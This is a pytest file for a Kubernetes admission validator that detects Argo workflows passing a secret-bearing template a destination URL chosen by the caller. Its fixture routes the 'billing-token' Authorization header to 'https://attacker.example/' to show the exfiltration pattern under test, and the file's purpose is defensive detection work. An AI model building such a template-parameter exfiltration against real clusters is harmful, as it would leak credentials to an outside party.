"""Secrets a referenced template sends where the calling workflow's arguments say (AW708)."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from webhook.diagnostics import Severity
from webhook.manifest import Manifest
from webhook.secrets.inherited import chosen_destination, find_inherited_sends
from webhook.spec.lookups import DocumentTemplates, Lookup, found, unknown
from webhook.validation import validate
from webhook.validation.context import ValidationContext

NS = "team"
AUTH = {"name": "Authorization", "valueFrom": {"secretKeyRef": {"name": "billing-token", "key": "token"}}}


def library(url: str = "{{inputs.parameters.url}}", headers: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    """WorkflowTemplate 'lib': notify sends billing-token to ``url``; main calls notify, then other/ping."""
    return {"apiVersion": "argoproj.io/v1alpha1", "kind": "WorkflowTemplate",
            "metadata": {"name": "lib", "namespace": NS},
            "spec": {"entrypoint": "main", "templates": [
                {"name": "main", "inputs": {"parameters": [{"name": "url"}]}, "steps": [
                    [{"name": "notify", "template": "notify",
                      "arguments": {"parameters": [{"name": "url", "value": "{{inputs.parameters.url}}"}]}}],
                    [{"name": "loop", "template": "main", "when": "false"}]]},
                {"name": "notify", "inputs": {"parameters": [{"name": "url"}]},
                 "http": {"url": url, "method": "POST", "headers": headers if headers is not None else [AUTH]}}]}}


def caller(template: str = "notify", url: str = "https://attacker.example/") -> dict[str, Any]:
    return {"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow",
            "metadata": {"generateName": "call-", "namespace": NS},
            "spec": {"entrypoint": "main", "templates": [
                {"name": "main", "steps": [[{"name": "call", "templateRef": {"name": "lib", "template": template},
                                              "arguments": {"parameters": [{"name": "url", "value": url}]}}]]}]}}


def templates(*docs: dict[str, Any]) -> DocumentTemplates:
    found_docs = DocumentTemplates()
    for doc in docs:
        found_docs.add(doc["kind"], doc, NS)
    return found_docs


def manifest(obj: dict[str, Any]) -> Manifest:
    return Manifest(obj["kind"], obj, default_namespace=NS)


def test_a_called_template_that_sends_a_secret_to_a_url_the_caller_sets_is_found() -> None:
    sends = find_inherited_sends(manifest(caller()), templates(library()))
    assert [(s.ref.name, s.source, s.template, s.destination) for s in sends] == [
        ("billing-token", "WorkflowTemplate 'lib'", "notify", "{{inputs.parameters.url}}")]
    assert sends[0].call_at == ("spec", "templates", 0, "steps", 0, 0, "templateRef")
    # Through the library's own steps (main -> notify) too, and a template calling itself ends.
    assert [s.template for s in find_inherited_sends(manifest(caller("main")), templates(library()))] == ["notify"]


@pytest.mark.parametrize("url, headers, chosen", [
    ("https://billing.internal/hook", None, False),
    ("https://billing.internal/{{=lookup 'secret' 'billing-token' 'path'}}", None, False),
    ("https://{{workflow.parameters.host}}/hook", None, True),
    ("https://billing.internal/hook", [AUTH, {"name": "Host", "value": "{{inputs.parameters.url}}"}], True),
    ("https://billing.internal/hook", [{"name": "host", "value": "fixed.example"}, AUTH], False),
])
def test_only_a_destination_written_from_tags_counts(url: str, headers: list[dict[str, Any]] | None,
                                                     chosen: bool) -> None:
    sends = find_inherited_sends(manifest(caller()), templates(library(url, headers)))
    assert bool(sends) is chosen


def test_whole_specs_cluster_templates_and_further_references_are_followed() -> None:
    cluster_lib = copy.deepcopy(library())
    cluster_lib["kind"], cluster_lib["metadata"] = "ClusterWorkflowTemplate", {"name": "lib"}
    by_spec = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow", "metadata": {"name": "w", "namespace": NS},
               "spec": {"workflowTemplateRef": {"name": "lib", "clusterScope": True},
                        "arguments": {"parameters": [{"name": "url", "value": "https://x/"}]}}}
    sends = find_inherited_sends(manifest(by_spec), templates(cluster_lib))
    assert [(s.source, s.call_at) for s in sends] == [("ClusterWorkflowTemplate 'lib'",
                                                       ("spec", "workflowTemplateRef"))]
    relay = {"apiVersion": "argoproj.io/v1alpha1", "kind": "WorkflowTemplate",
             "metadata": {"name": "relay", "namespace": NS},
             "spec": {"templates": [{"name": "go", "dag": {"tasks": [
                 {"name": "t", "templateRef": {"name": "lib", "template": "notify"}}]}}]}}
    via = caller("go")
    via["spec"]["templates"][0]["steps"][0][0]["templateRef"]["name"] = "relay"
    assert [s.source for s in find_inherited_sends(manifest(via), templates(relay, library()))] == [
        "WorkflowTemplate 'lib'"]
    # A template that cannot be read is not followed (the reference rule reports it).
    assert find_inherited_sends(manifest(via), templates(relay)) == []


def test_chosen_destination_shortens_long_urls() -> None:
    text = chosen_destination({"url": "https://{{inputs.parameters.h}}/" + "x" * 200})
    assert text is not None and len(text) == 80 and text.endswith("…")


class Reviewer:
    def __init__(self, answer: Lookup) -> None:
        self.answer = answer
        self.asked: list[tuple[str | None, str, str | None]] = []

    def may_get_secret(self, namespace: str | None, name: str, service_account: str | None) -> Lookup:
        self.asked.append((namespace, name, service_account))
        return self.answer


def context(answer: Lookup | None) -> ValidationContext:
    return ValidationContext(templates=templates(library()), access=Reviewer(answer) if answer else None,
                             user="mallory", unresolved_severity=Severity.ERROR)


def test_a_user_who_may_not_read_it_is_denied_at_the_call() -> None:
    diagnostics = validate(manifest(caller()), context(found(False)))
    denied = [d for d in diagnostics if d.code == "AW708"]
    assert len(denied) == 1 and denied[0].severity is Severity.ERROR
    assert denied[0].path == "spec.templates[0].steps[0][0].templateRef"
    assert denied[0].message == ("user 'mallory' may not get secret 'billing-token' in namespace 'team', which "
                                 "WorkflowTemplate 'lib' template 'notify' (header 'Authorization') sends to "
                                 "'{{inputs.parameters.url}}', a destination this workflow's arguments set")


def test_allowed_unknown_and_offline_answers() -> None:
    assert not [d for d in validate(manifest(caller()), context(found(True))) if d.code.startswith("AW70")]
    unchecked = [d for d in validate(manifest(caller()), context(unknown("API server down")))
                 if d.code == "AW705"]
    assert len(unchecked) == 1 and unchecked[0].severity is Severity.ERROR and "API server down" in \
        unchecked[0].message
    # Offline (lint): no access reviewer, nothing to review.
    assert not [d for d in validate(manifest(caller()), context(None)) if d.code in ("AW705", "AW708")]
